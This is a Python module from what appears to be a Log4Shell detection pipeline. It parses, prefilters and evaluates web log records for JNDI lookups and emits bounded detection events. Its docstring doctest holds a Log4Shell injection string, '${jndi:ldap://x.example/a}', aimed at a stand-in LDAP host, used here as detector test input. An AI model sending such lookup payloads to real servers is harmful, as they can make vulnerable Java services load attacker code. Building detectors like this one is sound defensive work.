"""The detect stage: raw record → counted, dead-lettered, or a detection. No I/O.

The same object serves the Kafka worker (records carry ``topic/partition/offset``)
and ``l4s scan`` (records carry ``file:line``), which is why both paths count alike.
"""

from __future__ import annotations

import functools
import math
import re
import time
from collections import Counter
from collections.abc import Callable, Iterable
from dataclasses import dataclass, field
from datetime import UTC, datetime

import msgspec

from detectors import (
    ENGINE_VERSION,
    RecordVerdict,
    analyze_fields,
    find_candidates,
    may_contain_lookup,
)
from pipeline import events, log
from pipeline.config import Settings
from pipeline.errors import PoisonRecord
from pipeline.events import Detection, Finding, HttpRequest
from pipeline.formats import FormatRouter
from pipeline.formats.base import MAX_RECORD_BYTES, Parser, TrustedProxies

#: Request-line fields copied into a detection are cut to this many characters.
_CONTEXT_CHARS = 2048
#: Largest encoded detection; Kafka's default limit for a record is 1 MB, and a
#: record crafted with thousands of lookups must still travel (see _bounded).
MAX_DETECTION_BYTES = 256 * 1024
#: Event times l4s accepts from a log: every day of them exists in every time zone.
EARLIEST_EVENT_TIME = datetime(1, 1, 2, tzinfo=UTC).timestamp()
LATEST_EVENT_TIME = datetime(9999, 12, 30, tzinfo=UTC).timestamp()
#: ``limit_hit`` of a detection whose findings were cut to fit MAX_DETECTION_BYTES.
LIMIT_FINDINGS = "findings"

_log = log.get("detect")


@dataclass(frozen=True, slots=True)
class RawRecord:
    """One record as it arrived.

    Args:
        stream: ``topic/partition`` or a file path; with ``seq`` it names the event.
        seq: Kafka offset or 1-based line number.
        broker_time: the broker's timestamp in epoch seconds, if any.
        format: the format a producer declared for the record, if any.
    """

    value: bytes
    stream: str
    seq: int
    broker_time: float | None = None
    format: str | None = None
    sep: str = "/"
    #: The Kafka topic it came from, for per-topic formats.
    topic: str | None = None

    @property
    def event_id(self) -> str:
        return f"{self.stream}{self.sep}{self.seq}"


#: Per-record counters the store keeps as totals.
LINE_COUNTERS = ("lines", "parsed", "dead_letters", "prefiltered")


@dataclass(slots=True)
class BatchOutcome:
    """What one batch produced.

    ``by_stream`` holds the counters per input stream (``topic/partition`` or
    file), since each stream's counts are added to the store under its own
    high-water mark.
    """

    by_stream: dict[str, Counter[str]] = field(default_factory=dict)
    last_seq: dict[str, int] = field(default_factory=dict)
    formats: Counter[str] = field(default_factory=Counter)
    detections: list[Detection] = field(default_factory=list)
    dead: list[tuple[RawRecord, PoisonRecord]] = field(default_factory=list)

    @property
    def counts(self) -> Counter[str]:
        total: Counter[str] = Counter()
        for counts in self.by_stream.values():
            total.update(counts)
        return total

    def line_counts(self, stream: str) -> dict[str, int]:
        counts = self.by_stream.get(stream, Counter())
        return {name: counts[name] for name in LINE_COUNTERS}


class DetectStage:
    """Parses, prefilters and evaluates records.

    A record the prefilter proves cannot hold a lookup in any encoding is only
    checked for the shape of its format (cheap) and counted; everything else is
    parsed and every field evaluated.

    Args:
        settings: formats and trusted proxies come from ``settings.detect``.

    Example:
        >>> stage = DetectStage(Settings())
        >>> out = stage.process([RawRecord(b'203.0.113.9 - - [10/Dec/2021:14:25:38 +0000] '
        ...     b'"GET / HTTP/1.1" 200 5 "-" "${jndi:ldap://x.example/a}"', "f", 1, sep=":")])
        >>> out.detections[0].findings[0].url
        'ldap://x.example/a'
    """

    def __init__(self, settings: Settings) -> None:
        self.router = FormatRouter.from_settings(settings.formats)
        self.proxies = TrustedProxies(settings.detect.trusted_proxies)

    def process(self, records: Iterable[RawRecord], out: BatchOutcome | None = None) -> BatchOutcome:
        """Every record through the full per-record path."""
        out = out if out is not None else BatchOutcome()
        by_stream = out.by_stream
        for record in records:
            counts = by_stream.get(record.stream)
            if counts is None:
                counts = by_stream[record.stream] = Counter()
            counts["lines"] += 1
            out.last_seq[record.stream] = record.seq
            self._guarded(record, out, counts)
        return out

    def process_block(
        self,
        values: list[bytes],
        make: Callable[[int], RawRecord],
        stream: str,
        last_seq: int,
        out: BatchOutcome | None = None,
        *,
        fmt: str | None = None,
        topic: str | None = None,
        joined: bytes | None = None,
        skip_blank: bool = False,
    ) -> BatchOutcome:
        """Records of one stream at once; clean, well-formed ones cost no Python.

        One prefilter pass (``find_candidates``) and one shape pass (the format's
        ``line_shape`` regex, anchored at every line start) run over the records
        joined by newlines; only candidates and misshapen records take the
        per-record path. ``make(i)`` builds the :class:`RawRecord` of record ``i``.

        Args:
            values: the records, none containing a newline.
            fmt: the format every record was declared in, if any.
            topic: the Kafka topic of the records, for per-topic formats.
            joined: ``b"\n".join(values)`` when the caller has it already.
            skip_blank: blank records are not records (lines of a file).
        """
        out = out if out is not None else BatchOutcome()
        counts = out.by_stream.get(stream)
        if counts is None:
            counts = out.by_stream[stream] = Counter()
        out.last_seq[stream] = last_seq
        if joined is None:
            joined = b"\n".join(values)
        parser = self._block_parser(values, fmt, topic)
        special = set(find_candidates(joined))
        if len(joined) > MAX_RECORD_BYTES:
            special.update(i for i, v in enumerate(values) if len(v) > MAX_RECORD_BYTES)
        shape = getattr(parser, "line_shape", None)
        if shape is None:
            special.update(i for i, v in enumerate(values) if not parser.looks_like(v))
        else:
            special.update(_misshapen_lines(joined, shape))
        clean = len(values) - len(special)
        counts["lines"] += clean
        counts["parsed"] += clean
        counts["prefiltered"] += clean
        out.formats[parser.name] += clean
        for i in sorted(special):
            if skip_blank and not values[i].strip():
                continue
            counts["lines"] += 1
            self._guarded(make(i), out, counts)
        return out

    def _block_parser(self, values: list[bytes], fmt: str | None, topic: str | None) -> Parser:
        # The block's shape is that of its declared format, or of the format its
        # first record has; records of any other format fail the shape test and
        # are parsed one by one with per-record detection.
        for value in values:
            if value.strip():
                parser, _ = self.router.choose(value, fmt, topic)
                return parser
        return self.router.choose(b"", fmt, topic)[0]

    def _guarded(self, record: RawRecord, out: BatchOutcome, counts: Counter[str]) -> None:
        try:
            self._one(record, out, counts)
        except PoisonRecord as exc:
            exc.coords = record.event_id
            counts["dead_letters"] += 1
            out.dead.append((record, exc))
        except Exception as exc:
            # A bug that one record triggers must not stop the stream: the
            # worker would crash on the same record after every restart. The
            # record is dead-lettered like poison, and the error is logged.
            # The traceback may quote the record: only at debug level.
            where, error = record.event_id, type(exc).__name__
            _log.error("record_failed", error=error, coords=where)
            _log.debug("record_failed_traceback", coords=where, exc_info=True)
            poison = PoisonRecord("internal_error", error, coords=where)
            counts["dead_letters"] += 1
            out.dead.append((record, poison))

    def _one(self, record: RawRecord, out: BatchOutcome, counts: Counter[str]) -> None:
        raw = record.value
        if len(raw) > MAX_RECORD_BYTES:
            # Checked before the prefilter, so that every record this long is
            # dead-lettered, whether or not it could hold a lookup.
            size = f"{len(raw)} bytes, limit {MAX_RECORD_BYTES}"
            raise PoisonRecord("too_large", size)
        parser, ambiguous = self.router.choose(raw, record.format, record.topic)
        if ambiguous:
            counts["ambiguous"] += 1
        if not may_contain_lookup(raw) and _well_formed(parser, raw):
            counts["parsed"] += 1
            counts["prefiltered"] += 1
            out.formats[parser.name] += 1
            return
        request = parser.parse(raw)
        counts["parsed"] += 1
        out.formats[parser.name] += 1
        if request is None:
            # A well-formed record that is not a request (a format's header line).
            return
        verdict = analyze_fields(request.fields())
        if verdict.malicious or verdict.inert:
            detection = self._detection(record, request, verdict, counts)
            out.detections.append(_bounded(detection))

    def _detection(
        self, record: RawRecord, request: HttpRequest, verdict: RecordVerdict, counts: Counter[str]
    ) -> Detection:
        timestamp, source = request.timestamp, "log"
        if timestamp is not None and not plausible_event_time(timestamp):
            # A time no calendar day holds (year 10000, NaN) would break every
            # per-day figure downstream; the record is kept, timed as if it had none.
            timestamp = None
        if timestamp is None:
            counts["timestamp_fallbacks"] += 1
            timestamp, source = record.broker_time, "broker"
            if timestamp is None:
                timestamp, source = time.time(), "ingest"
        findings = tuple(
            Finding(
                field=fv.field,
                family=lookup.family,
                url=lookup.url,
                scheme=lookup.scheme,
                host=lookup.host,
                port=lookup.port,
                path=lookup.path,
                decodings=lookup.decodings,
                techniques=lookup.techniques,
                cves=lookup.cves,
                exfil=lookup.exfil,
                oob=lookup.oob,
                commands=lookup.commands,
            )
            for fv in verdict.fields
            for lookup in fv.lookups
        )
        client = self.proxies.client(request.peer_ip, request.forwarded_for)
        if client is None and not self.proxies.trusted(request.peer_ip or ""):
            # Formats that log the client but no TCP peer (a CDN's client field).
            client = request.client_ip
        return Detection(
            event_id=record.event_id,
            timestamp=timestamp,
            timestamp_source=source,  # type: ignore[arg-type]
            # A trusted proxy that names no usable client leaves the source
            # unknown: counted, never blocked, never the proxy itself.
            source_ip=client or "",
            peer_ip=request.peer_ip,
            format=request.format,
            method=_cut(request.method),
            host=_cut(request.host),
            uri=_cut(request.uri),
            user_agent=_cut(request.user_agent),
            malicious=verdict.malicious,
            findings=findings,
            inert_fields=tuple(fv.field for fv in verdict.fields if fv.inert and not fv.malicious),
            techniques=verdict.techniques,
            fields=tuple(fv.field for fv in verdict.fields if fv.malicious),
            limit_hit=verdict.limit_hit,
            engine=ENGINE_VERSION,
            received=record.broker_time,
        )


def _well_formed(parser: Parser, raw: bytes) -> bool:
    """The cheap test that lets a clean record be counted without a full parse."""
    shape = getattr(parser, "line_shape", None)
    return parser.looks_like(raw) if shape is None else shape.match(raw) is not None


def _misshapen_lines(joined: bytes, shape: re.Pattern[bytes]) -> list[int]:
    """Indices of the lines of ``joined`` where ``shape`` does not match at the start."""
    # Anchoring on a literal newline (one is put before the first line) lets the
    # regex engine skip between lines at memchr speed, unlike ``^`` in MULTILINE.
    found = []
    line = counted_to = 0
    buffer = b"\n" + joined
    count = buffer.count
    for match in _negated(shape).finditer(buffer):
        start = match.start()
        line += count(b"\n", counted_to, start)
        counted_to = start
        found.append(line)
    return found


@functools.cache
def _negated(shape: re.Pattern[bytes]) -> re.Pattern[bytes]:
    """Matches the newline before every line that ``shape`` does not match."""
    return re.compile(rb"\n(?!" + shape.pattern + rb")", re.MULTILINE | shape.flags)


def _cut(value: str | None) -> str | None:
    return value[:_CONTEXT_CHARS] if value else value


def plausible_event_time(timestamp: float) -> bool:
    """True for an event time whose day exists in every time zone."""
    if not math.isfinite(timestamp):
        return False
    return EARLIEST_EVENT_TIME <= timestamp <= LATEST_EVENT_TIME


def _bounded(detection: Detection) -> Detection:
    """The detection, with findings dropped until it encodes to MAX_DETECTION_BYTES.

    Only records built to be hostile come near the bound (thousands of distinct
    lookups); the first findings still say what the record is, and ``limit_hit``
    says that some were left out.
    """
    size = len(events.encode(detection))
    if size <= MAX_DETECTION_BYTES:
        return detection
    findings = detection.findings
    while findings and size > MAX_DETECTION_BYTES:
        findings = findings[: len(findings) // 2]
        limit = detection.limit_hit or LIMIT_FINDINGS
        detection = msgspec.structs.replace(
            detection, findings=findings, limit_hit=limit
        )
        size = len(events.encode(detection))
    if size > MAX_DETECTION_BYTES:
        # Field names alone are too long (attacker-chosen header names).
        detection = msgspec.structs.replace(
            detection,
            fields=tuple(f[:256] for f in detection.fields[:64]),
            inert_fields=tuple(f[:256] for f in detection.inert_fields[:64]),
            limit_hit=detection.limit_hit or LIMIT_FINDINGS,
        )
    return detection
